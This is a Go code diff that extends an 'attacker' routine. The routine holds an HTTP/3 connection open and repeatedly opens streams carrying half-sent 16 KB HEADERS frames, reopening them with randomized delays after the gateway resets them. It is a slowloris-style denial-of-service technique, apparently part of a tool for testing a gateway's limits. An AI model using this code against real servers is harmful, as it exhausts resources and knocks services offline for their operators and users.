@@ -7,6 +7,7 @@ import (
 	"errors"
 	"fmt"
 	"io"
+	"math/rand/v2"
 	"net"
 	"net/http"
 	"os"
@@ -235,7 +236,7 @@ func (a *attacker) watches(ctx context.Context, i int) error {
 	return nil
 }
 
-// half has a connection of HTTP/3 with one whole request, and halves of as many as it may have at a time.
+// half has a connection of HTTP/3 with one whole request, and then halves of as many as it may have at a time.
 func (a *attacker) half(ctx context.Context, i int) error {
 	to, err := net.ResolveUDPAddr("udp", a.secure)
 	if err != nil {
@@ -269,15 +270,33 @@ func (a *attacker) half(ctx context.Context, i int) error {
 	}
 	_ = res.Body.Close()                                              // it was read
 	part := append([]byte{0x01, 0x7f, 0xff}, make([]byte, 16<<10)...) // a HEADERS frame of 16,383 bytes, but for the last
+	var all, written sync.WaitGroup
+	defer all.Wait()
+	defer end()
 	for range streams3 {
-		stream, err := conn.OpenStreamSync(ctx)
-		if err != nil {
-			return err
-		}
-		if _, err := stream.Write(part[:16<<10]); err != nil {
-			return err
-		}
+		written.Add(1)
+		all.Go(func() {
+			first := sync.OnceFunc(written.Done)
+			defer first()
+			for { // the gateway resets each after a time
+				stream, err := conn.OpenStreamSync(ctx)
+				if err != nil {
+					return // the connection has ended
+				}
+				_, _ = stream.Write(part[:16<<10])
+				first()
+				_, _ = stream.Read(make([]byte, 1))
+				stream.CancelWrite(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
+				stream.CancelRead(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
+				select {
+				case <-conn.Context().Done():
+					return
+				case <-time.After(tries/2 + rand.N(tries)): // not all at once
+				}
+			}
+		})
 	}
+	written.Wait()
 	begun(ctx)
 	<-conn.Context().Done()
 	return context.Cause(conn.Context())
